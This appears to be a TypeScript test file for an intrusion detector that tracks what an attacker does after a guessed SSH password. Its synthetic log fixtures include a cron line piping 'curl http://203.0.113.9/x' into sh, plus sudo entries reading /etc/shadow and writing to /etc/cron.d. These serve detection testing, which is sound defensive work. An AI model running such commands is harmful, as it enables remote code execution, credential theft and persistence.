import { describe, expect, it } from 'vitest'
import type { Detection } from '../../../schema/detection/detection.ts'
import type { Event } from '../../../schema/event/event.ts'
import type { Fact } from '../../../schema/event/fact.ts'
import { createNormalizer } from '../../normalize/normalize.ts'
import { createFollowIntruders } from './follow-intruders.ts'
import { createIntruderWatch } from './intruder-watch.ts'
import { sequenceDetector } from './sequence.ts'

const log = { debug() {}, info() {}, warn() {}, error() {} }
const make = (isPart = false) =>
  sequenceDetector(isPart).create(sequenceDetector().options.parse({}), {
    now: () => 0,
    fetch,
    log,
    signal: new AbortController().signal,
  })

const receivedAt = Date.parse('2026-11-20T12:00:00Z')
let first = 0
const read = (source: string, ...texts: string[]): Event[] => {
  first += texts.length
  return createNormalizer().normalize({ partition: 0, first, source, receivedAt, texts, zoneMinutes: 0 })
}

const guesses = Array.from(
  { length: 30 },
  (_, i) =>
    `Nov 20 01:00:${String(i).padStart(2, '0')} web sshd[9]: Failed password for eve from 203.0.113.9 port 4711 ssh2`,
)
const login = 'Nov 20 01:01:00 web sshd[9]: Accepted password for eve from 203.0.113.9 port 4711 ssh2'
const sudo = (time: string, user: string, command: string, host = 'web') =>
  `Nov 20 ${time} ${host} sudo:      ${user} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=${command}`
const fetched = (address: string, bytes: number) =>
  `${address} - - [20/Nov/2026:01:20:00 +0000] "GET /dump.tgz HTTP/1.1" 200 ${bytes} "-" "curl"`

const trailsOf = (batches: readonly (readonly Event[])[], detector = make()): Detection[] => {
  const found = new Map<string, Detection>()
  for (const batch of [...batches, []]) for (const one of detector.detect(batch)) found.set(one.id, one)
  return [...found.values()].filter(({ dedup_key }) => dedup_key.startsWith('after a guessed login'))
}

describe('an intruder with a guessed password', () => {
  it('is followed: what the account does as root, and what the address fetches elsewhere', () => {
    const found = trailsOf([
      read(
        'auth',
        ...guesses,
        login,
        sudo('01:05:00', 'eve', '/usr/bin/cat /etc/shadow'),
        sudo('01:09:00', 'eve', '/usr/bin/tee /etc/cron.d/x'),
      ),
      read('web', fetched('203.0.113.9', 40_000_000), fetched('198.51.100.4', 40_000_000)),
      read('cron', 'Nov 20 01:30:01 web CRON[8]: (root) CMD (curl http://203.0.113.9/x | sh)'),
    ])
    expect(found.map(({ title, severity, type }) => ({ title, severity, type }))).toEqual([
      { title: 'eve acted as root 2 times after the guessed login', severity: 'high', type: 'unauthorized_access' },
      { title: '40 MB went to 203.0.113.9 after the guessed login', severity: 'high', type: 'data_exfiltration' },
    ])
    expect(found[0]?.sentence).toContain('cat /etc/shadow and tee /etc/cron.d/x')
    expect(found[1]?.evidence.map(({ line }) => line.slice(0, 20))).toEqual([
      '203.0.113.9 - - [20/',
      'Nov 20 01:30:01 web ',
    ])
  })

  it('is not another user, on another host, before the login or a day later', () => {
    expect(
      trailsOf([
        read(
          'auth',
          sudo('00:30:00', 'eve', '/usr/bin/id'),
          ...guesses,
          login,
          sudo('01:05:00', 'ann', '/usr/bin/id'),
          sudo('01:05:00', 'eve', '/usr/bin/id', 'db'),
        ),
        read('web', fetched('203.0.113.90', 5_000_000), fetched('1.203.0.113.9', 5_000_000)),
        read('auth', sudo('01:05:00', 'eve', '/usr/bin/id').replace('Nov 20', 'Nov 21')),
      ]),
    ).toEqual([])
  })

  it('is dropped when the owner of the account logs in', () => {
    const back =
      'Nov 20 08:00:00 web sshd[9]: Accepted publickey for eve from 10.0.0.7 port 4711 ssh2: ED25519 SHA256:x'
    expect(trailsOf([read('auth', ...guesses, login, back, sudo('08:05:00', 'eve', '/usr/bin/id'))])).toEqual([])
  })

  it('does not exist if nothing was guessed', () => {
    expect(trailsOf([read('auth', guesses[0] ?? '', login, sudo('01:05:00', 'eve', '/usr/bin/id'))])).toEqual([])
  })

  it('is remembered across a restart', () => {
    const before = make()
    before.detect(read('auth', ...guesses, login))
    const after = make()
    after.restore?.(before.save?.() ?? new Uint8Array())
    expect(trailsOf([read('auth', sudo('01:05:00', 'eve', '/usr/bin/id'))], after)).toHaveLength(1)
  })

  it('is followed to the other partitions, in whichever order they are read', async () => {
    const signal = new AbortController().signal
    const [part, other] = [make(true), make(true)]
    const stored: Event[] = []
    const store = (detector: typeof part, events: readonly Event[]): readonly Fact[] => {
      stored.push(...events)
      detector.detect(events)
      return detector.takeFacts?.() ?? []
    }
    const elsewhere = (number: number, address: string): Event => {
      const [event] = read('web', fetched(address, 40_000_000))
      if (!event) throw new Error('no event')
      return { ...event, id: `1-${number}`, stream: 'web/host-2' }
    }
    let watch = createIntruderWatch()
    const now = Date.parse('2026-11-20T02:00:00Z')
    const found = new Map<string, Detection>()
    const take = (facts: readonly Fact[]) => {
      for (const one of watch.detect(facts)) found.set(one.id, one)
    }
    const searched: number[] = []
    const follow = async () => {
      const run = createFollowIntruders({
        wanted: () => watch.wanted(now),
        search: async ({ from, tokens, matches }) => ({
          items: stored.filter(
            (event) => event.time >= from && tokens.every((token) => event.original.includes(token)) && matches(event),
          ),
        }),
        async publish(facts) {
          searched.push(facts.length)
          // Published twice by two processes: counts once.
          take(facts)
          take(facts)
        },
        now: () => now,
      })
      await run(signal)
    }
    expect(store(other, [elsewhere(5, '203.0.113.9'), elsewhere(6, '198.51.100.4')])).toEqual([])
    const facts = store(part, read('auth', ...guesses, login, sudo('01:05:00', 'eve', '/usr/bin/id')))
    expect(facts.map(({ about }) => about)).toEqual(['break-in'])
    take(facts)
    await follow()
    const after = createIntruderWatch()
    after.restore?.(watch.save?.() ?? new Uint8Array())
    watch = after
    store(other, [elsewhere(7, '203.0.113.9')])
    await follow()
    await follow()
    expect(searched).toEqual([1, 1])
    expect([...found.values()].map(({ title, event_count }) => ({ title, event_count }))).toEqual([
      { title: '80 MB went to 203.0.113.9 after the guessed login', event_count: 2 },
    ])
    expect(watch.wanted(now + 25 * 3_600_000)).toEqual([])
    // Records of a past month are searched, too, on the day that they arrive.
    const late = createIntruderWatch()
    late.detect(facts)
    expect(late.wanted(now + 30 * 24 * 3_600_000)).toHaveLength(1)
    expect(late.wanted(now + 32 * 24 * 3_600_000)).toEqual([])
  })

  it('takes at most 12 lines of memory', () => {
    const many = Array.from({ length: 500 }, (_, i) =>
      sudo(`01:10:${String(i % 60).padStart(2, '0')}`, 'eve', `/usr/bin/id ${i}`),
    )
    const [found] = trailsOf([read('auth', ...guesses, login, ...many)])
    expect(found).toMatchObject({ event_count: 500 })
    expect(found?.evidence).toHaveLength(12)
    expect(found?.evidence.at(-1)?.line).toContain('id 499')
  })
})
